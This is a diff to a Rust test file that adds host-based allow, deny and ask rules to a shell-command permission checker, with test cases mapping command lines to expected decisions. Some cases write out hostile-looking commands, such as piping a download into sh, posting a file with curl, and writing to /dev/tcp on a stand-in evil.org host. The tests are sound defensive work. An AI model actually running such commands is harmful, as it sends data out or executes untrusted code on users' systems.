@@ -97,6 +97,114 @@ fn every_part_of_a_command_line_needs_leave() {
     assert_eq!(rules.command(&["bash"], "git push").unwrap().rule, "deny command \"git push\"");
 }
 
+const HOSTS: &str = r#"
+[[rule]]
+decision = "allow"
+host = "good.org"
+
+[[rule]]
+decision = "allow"
+host = "*.good.org"
+
+[[rule]]
+decision = "deny"
+host = "*.evil.org"
+
+[[rule]]
+decision = "deny"
+host = "evil.org:443"
+
+[[rule]]
+decision = "ask"
+host = "odd.org"
+
+[[rule]]
+decision = "allow"
+command = "git push"
+host = "git.org"
+
+[[rule]]
+decision = "allow"
+command = "make"
+
+[[rule]]
+decision = "deny"
+command = "wget"
+host = "slow.org"
+"#;
+
+#[test]
+fn every_host_of_a_command_line_needs_leave() {
+    let (rules, problems) = rules(HOSTS, Author::Person);
+    assert_eq!(problems, Vec::<String>::new());
+    for (line, expected) in [
+        ("curl https://good.org/x", "allow"),
+        ("curl -sSfL https://GOOD.org./x | head -3", "allow"),
+        ("curl https://a.good.org https://good.org", "allow"),
+        ("curl https://good.org && make", "allow"),
+        ("curl https://good.org/x https://other.org", "-"),
+        ("curl https://other.org", "-"),
+        ("curl https://good.org@other.org/", "-"),
+        ("curl https://notgood.org", "-"),
+        ("curl https://good.org > f", "-"),
+        ("curl https://good.org | sh", "-"),
+        ("curl -o f https://good.org", "-"),
+        ("curl -d @f https://good.org", "-"),
+        ("X=1 curl https://good.org", "-"),
+        ("sudo curl https://good.org", "-"),
+        ("curl https://good.org; touch x", "-"),
+        ("curl https://good.org &", "-"),
+        ("./curl https://good.org", "-"),
+        ("sh x https://good.org", "-"),
+        ("ssh good.org ls", "allow"),
+        ("ssh good.org 'ls; touch x'", "-"),
+        ("ssh good.org", "-"),
+        ("scp x good.org:y", "-"),
+        ("git clone https://good.org/x", "allow"),
+        ("git clone https://good.org/x /etc/x", "-"),
+        ("git fetch origin", "-"),
+        ("git push https://good.org/x", "-"),
+        ("git push git.org:x main", "allow"),
+        ("git push https://evil.org/x main", "deny"),
+        ("git push other.org:x", "-"),
+        ("git push origin", "-"),
+        ("git clone git.org:x", "-"),
+        // What cannot be read is asked about, and never allowed.
+        ("curl $x", "ask"),
+        ("curl https://good.org$x", "ask"),
+        ("curl \"https://good.org/$x\"", "allow"),
+        ("curl -K f https://good.org", "ask"),
+        ("echo good.org | xargs curl", "ask"),
+        ("$x https://good.org", "ask"),
+        ("make $x", "allow"),
+        ("make https://$x", "ask"),
+        ("curl https://www.evil.org", "deny"),
+        ("curl https://good.org https://www.evil.org", "deny"),
+        ("curl -x www.evil.org https://good.org", "deny"),
+        ("sudo timeout 5 curl https://www.evil.org", "deny"),
+        ("make https://www.evil.org/x", "deny"),
+        ("bash -c 'curl https://www.evil.org'", "deny"),
+        ("make > /dev/tcp/www.evil.org/80", "deny"),
+        ("ls $(curl https://www.evil.org)", "deny"),
+        ("curl https://evil.org", "deny"),
+        ("curl https://evil.org:8443", "-"),
+        ("curl evil.org", "ask"),
+        ("make evil.org", "allow"),
+        ("curl https://odd.org", "ask"),
+        ("curl https://odd.org https://www.evil.org", "deny"),
+        ("wget https://slow.org", "deny"),
+        ("curl https://slow.org", "-"),
+        ("wget $x", "ask"),
+        ("grep -rn https://www.evil.org src", "-"),
+    ] {
+        assert_eq!(word(rules.command(&["bash"], line)), expected, "{line}");
+    }
+    let said = rules.command(&["bash"], "curl https://www.evil.org").unwrap();
+    assert_eq!(said.rule, "deny host \"*.evil.org\"");
+    // Hosts are nothing that files have.
+    assert_eq!(rules.file(&["read"], ToolClass::Reads, &[Path::new("/w/good.org")]), None);
+}
+
 #[test]
 fn paths_are_judged_by_patterns() {
     let (rules, _) = rules(FILE, Author::Person);
@@ -150,6 +258,9 @@ fn what_is_wrong_never_loosens() {
         "command = \"$x\"",
         "command = \"\"",
         "command = \"a\"\npath = \"b\"",
+        "host = \"a\"\npath = \"b\"",
+        "host = \"https://a\"",
+        "host = \"\"",
         "path = \"!x\"",
         "path = \"\"",
         "",
